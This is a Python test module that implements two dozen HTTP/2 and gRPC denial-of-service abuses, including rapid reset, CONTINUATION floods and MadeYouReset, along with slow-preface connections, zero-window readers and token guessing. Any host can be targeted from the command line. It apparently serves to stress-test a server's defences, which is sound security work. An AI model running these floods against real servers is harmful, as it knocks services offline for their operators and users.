"""What a hostile peer does to a server: each abuse goes on until told to stop, or for its whole count.

As a program: ``python -m tests.attacks.abuses NAME HOST PORT SECONDS [TOKEN]``. It ends by itself and prints
how many bad inputs it sent.
"""

from __future__ import annotations

import os
import random
import struct
import sys
import time
from collections.abc import Callable, Iterator

from tests.attacks.raw_http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Header,
    RawPeer,
    call_headers,
    frame,
    header_block,
    message,
    window_update,
)

PING_PATH, STREAM_PATH, COMMAND_PATH = "/RS.RemSvc/Ping", "/RS.RemSvc/RemCmdStrm", "/RS.RemSvc/RemCmd"
WATCH_PATH = "/grpc.health.v1.Health/Watch"
_NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0


class Target:
    """The server that is abused, and what the attacker has of it.

    Args:
        token: of a caller that the server lets in; none where it is empty.
        source: the attacker's own address.
    """

    def __init__(self, host: str, port: int, token: str = "", source: str = "") -> None:
        self._address = (host, port)
        self._source = source
        self.credentials: tuple[Header, ...] = (("authorization", f"Bearer {token}"),) if token else ()

    def connect(self) -> RawPeer:
        """A connection, as soon as there is one to be had. Raises ``OSError`` after some seconds."""
        ends = time.monotonic() + 5
        while True:
            try:
                return RawPeer(*self._address, source=self._source, timeout=2)
            except OSError:
                if time.monotonic() > ends:
                    raise
                time.sleep(0.02)

    def headers(self, path: str, *extra: Header) -> list[Header]:
        """The headers that begin a call, with the token."""
        return call_headers(path, *self.credentials, *extra)


Abuse = Callable[[Target], Iterator[int]]


def silent_connections(target: Target) -> Iterator[int]:
    """Connections that never say a word."""
    yield from _hold(target, lambda peer: None)


def idle_connections(target: Target) -> Iterator[int]:
    """Connections that are begun properly and then left alone."""
    yield from _hold(target, lambda peer: (peer.greet(), peer.send(frame(SETTINGS, ACK, 0))))


def slow_preface(target: Target) -> Iterator[int]:
    """Connections whose first bytes come one by one."""
    peers: list[tuple[RawPeer, Iterator[int]]] = []
    while True:
        if len(peers) < 200:
            peers.append((target.connect(), iter(PREFACE * 10)))
        for pair in tuple(peers):
            try:
                pair[0].send(bytes((next(pair[1]),)))
            except OSError:
                pair[0].close()
                peers.remove(pair)
        time.sleep(0.01)
        yield 1


def connection_churn(target: Target) -> Iterator[int]:
    """Connections that are begun and closed at once."""
    while True:
        with target.connect() as peer:
            peer.greet()
        yield 1


def garbage(target: Target) -> Iterator[int]:
    """Connections of random bytes, with a preface and without."""
    while True:
        with target.connect() as peer:
            peer.send(PREFACE if random.random() < 0.7 else b"", os.urandom(random.randrange(1, 4096)))
        yield 1


def ping_flood(target: Target) -> Iterator[int]:
    """HTTP/2 pings, as fast as they are taken."""
    yield from _flood(target, lambda stream: frame(PING, 0, 0, b"01234567"))


def settings_flood(target: Target) -> Iterator[int]:
    """HTTP/2 settings, each of which must be acknowledged."""

    def settings(stream: int) -> bytes:
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 - stream % 99))

    yield from _flood(target, settings)


def rapid_reset(target: Target) -> Iterator[int]:
    """Calls that are cancelled in the moment they begin (CVE-2023-44487)."""
    headers = header_block(target.headers(PING_PATH))

    def call(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, headers) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", CANCEL)
        )

    yield from _flood(target, call)


def header_flood(target: Target) -> Iterator[int]:
    """Headers that never end (CVE-2024-27316)."""
    block = header_block([(f"x-{number}", "a" * 500) for number in range(30)])
    while True:
        with target.connect() as peer:
            peer.greet()
            try:
                peer.send(frame(HEADERS, 0, 1, header_block(target.headers(PING_PATH))))
                for _ in range(1000):
                    peer.send(frame(CONTINUATION, 0, 1, block))
                    yield 1
            except OSError:
                yield 1


def large_headers(target: Target) -> Iterator[int]:
    """Calls with far more metadata than is permitted, each complete."""
    block = header_block([(f"x-{number}", "a" * 700) for number in range(20)])

    def call(stream: int) -> bytes:
        return b"".join(
            (
                frame(HEADERS, 0, stream, header_block(target.headers(PING_PATH))),
                *(frame(CONTINUATION, 0, stream, block) for _ in range(9)),
                frame(CONTINUATION, END_HEADERS, stream, block),
                frame(DATA, END_STREAM, stream, message()),
            )
        )

    yield from _flood(target, call, batch=5)


def bad_tokens(target: Target) -> Iterator[int]:
    """Calls with tokens that are guessed."""

    def call(stream: int) -> bytes:
        headers = call_headers(PING_PATH, ("authorization", f"Bearer guess-{stream}"))
        return frame(HEADERS, END_HEADERS, stream, header_block(headers)) + frame(
            DATA, END_STREAM, stream, message()
        )

    yield from _flood(target, call, answered=True)


def malformed_messages(target: Target) -> Iterator[int]:
    """Calls whose message is no message."""
    headers = header_block(target.headers(PING_PATH))

    def call(stream: int) -> bytes:
        junk = message(os.urandom(random.randrange(200)))
        return frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, junk)

    yield from _flood(target, call, answered=True)


def large_messages(target: Target) -> Iterator[int]:
    """Messages that claim four gigabytes, and send as much as they may."""
    while True:
        with target.connect() as peer:
            peer.greet()
            try:
                peer.call(1, PING_PATH, *target.credentials)
                peer.send(frame(DATA, 0, 1, message(claimed=2**32 - 1)))
                for _ in range(3):
                    peer.send(frame(DATA, 0, 1, bytes(16_000)))
            except OSError:
                pass
        yield 1


def half_requests(target: Target) -> Iterator[int]:
    """Calls whose request never comes, on connections that are kept."""

    def begin(peer: RawPeer) -> None:
        peer.greet()
        peer.send(frame(SETTINGS, ACK, 0))
        for stream in range(1, 201, 2):
            peer.call(stream, PING_PATH, *target.credentials)
            peer.send(frame(DATA, 0, stream, message(claimed=1000)))

    yield from _hold(target, begin, most=50)


def idle_streams(target: Target) -> Iterator[int]:
    """Command streams that are opened and left alone."""

    def begin(peer: RawPeer) -> None:
        peer.greet()
        peer.send(frame(SETTINGS, ACK, 0))
        for stream in range(1, 201, 2):
            peer.call(stream, STREAM_PATH, *target.credentials)

    yield from _hold(target, begin, most=50)


def deaf_readers(target: Target) -> Iterator[int]:
    """Calls whose answers are never taken."""

    def begin(peer: RawPeer) -> None:
        peer.greet(_NO_WINDOW)
        peer.send(frame(SETTINGS, ACK, 0))
        content = b"\x1a\xe8\x07" + bytes(1000)  # the field `data` of a ping
        for stream in range(1, 101, 2):
            peer.call(stream, PING_PATH, *target.credentials, body=message(content))

    yield from _hold(target, begin, most=50)


def one_byte_data(target: Target) -> Iterator[int]:
    """A long message that comes byte by byte, each in a frame of its own."""
    begin = frame(HEADERS, END_HEADERS, 1, header_block(target.headers(STREAM_PATH)))
    yield from _flood(
        target, lambda stream: frame(DATA, 0, 1, b"\0"), begin + frame(DATA, 0, 1, message(claimed=10**6))
    )


def empty_headers(target: Target) -> Iterator[int]:
    """Headers that say nothing."""
    yield from _flood(target, lambda stream: frame(HEADERS, END_HEADERS, stream))


def made_you_reset(target: Target) -> Iterator[int]:
    """Calls that begin as they should, and then make the server reset them (CVE-2025-8671)."""
    headers = header_block(target.headers(STREAM_PATH))
    trailers = header_block([("a", "\0")])

    def call(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, headers) + frame(
            HEADERS, END_HEADERS | END_STREAM, stream, trailers
        )

    yield from _flood(target, call)


def unknown_frames(target: Target) -> Iterator[int]:
    """Frames of no kind that is known."""
    yield from _flood(target, lambda stream: frame(0x77, 0, stream, b"x"))


def priority_flood(target: Target) -> Iterator[int]:
    """Streams that depend on others, without being there (CVE-2019-9513)."""
    yield from _flood(target, lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 9)))


def window_update_flood(target: Target) -> Iterator[int]:
    """Windows that are widened by one byte at a time."""
    yield from _flood(target, lambda stream: window_update(0, 1))


def slow_headers(target: Target) -> Iterator[int]:
    """Connections on which headers come byte by byte, and never end."""
    peers: list[tuple[RawPeer, Iterator[int]]] = []
    block = header_block(target.headers(PING_PATH))
    while True:
        if len(peers) < 200:
            peer = target.connect()
            peer.greet()
            peer.send(frame(SETTINGS, ACK, 0))
            peers.append((peer, iter(frame(HEADERS, 0, 1, block) + frame(CONTINUATION, 0, 1, bytes(9000)))))
        for pair in tuple(peers):
            try:
                pair[0].send(bytes((next(pair[1]),)))
            except OSError:
                pair[0].close()
                peers.remove(pair)
        time.sleep(0.01)
        yield 1


ABUSES: dict[str, Abuse] = {
    abuse.__name__: abuse
    for abuse in (
        silent_connections,
        idle_connections,
        slow_preface,
        connection_churn,
        garbage,
        ping_flood,
        settings_flood,
        rapid_reset,
        header_flood,
        large_headers,
        bad_tokens,
        malformed_messages,
        large_messages,
        half_requests,
        idle_streams,
        deaf_readers,
        one_byte_data,
        empty_headers,
        made_you_reset,
        unknown_frames,
        priority_flood,
        window_update_flood,
        slow_headers,
    )
}
"""Every abuse by its name. Each yields how many bad inputs it has sent since it last did."""

INSIDE = (
    "rapid_reset",
    "malformed_messages",
    "half_requests",
    "idle_streams",
    "deaf_readers",
    "one_byte_data",
    "made_you_reset",
)
"""Those that are worse from a caller whose token is accepted."""


def _hold(target: Target, begin: Callable[[RawPeer], object], most: int = 3000) -> Iterator[int]:
    """Open connections up to ``most``, keep them, and replace those that the server closes."""
    peers: list[RawPeer] = []
    try:
        while True:
            if len(peers) < most:
                peer = target.connect()
                peers.append(peer)
                try:
                    begin(peer)
                except OSError:
                    peers.remove(peer)
                    peer.close()
                    time.sleep(0.001)
                yield 1
                continue
            time.sleep(0.05)
            peers = [peer for peer in peers if not peer.is_closed()]
            yield 0
    finally:
        for peer in peers:
            peer.close()


def _flood(
    target: Target,
    make: Callable[[int], bytes],
    begin: bytes = b"",
    *,
    batch: int = 50,
    answered: bool = False,
) -> Iterator[int]:
    """Send what ``make`` makes of each stream number, on a new connection where one was closed.

    ``begin``: sent before it on each connection. ``answered``: wait for the answers to a batch before the
    next one.
    """
    while True:
        with target.connect() as peer:
            try:
                peer.greet()
                peer.send(frame(SETTINGS, ACK, 0), begin)
                for first in range(1, 100_000, 2 * batch):
                    streams = range(first, first + 2 * batch, 2)
                    peer.send(*map(make, streams))
                    yield batch
                    if answered:
                        peer.wait_ended(batch)
                    else:
                        peer.discard()
            except OSError:
                yield 0


def run(name: str, target: Target, seconds: float) -> int:
    """Do an abuse for so long. Returns how many bad inputs were sent."""
    ends = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < ends:
        try:
            for count in ABUSES[name](target):
                sent += count
                if time.monotonic() > ends:
                    break
        except OSError:  # the server does not answer, or has closed the connection: begin again
            time.sleep(0.02)
    return sent


if __name__ == "__main__":
    _, _name, _host, _port, _seconds, *_token = sys.argv
    print(run(_name, Target(_host, int(_port), *_token), float(_seconds)))
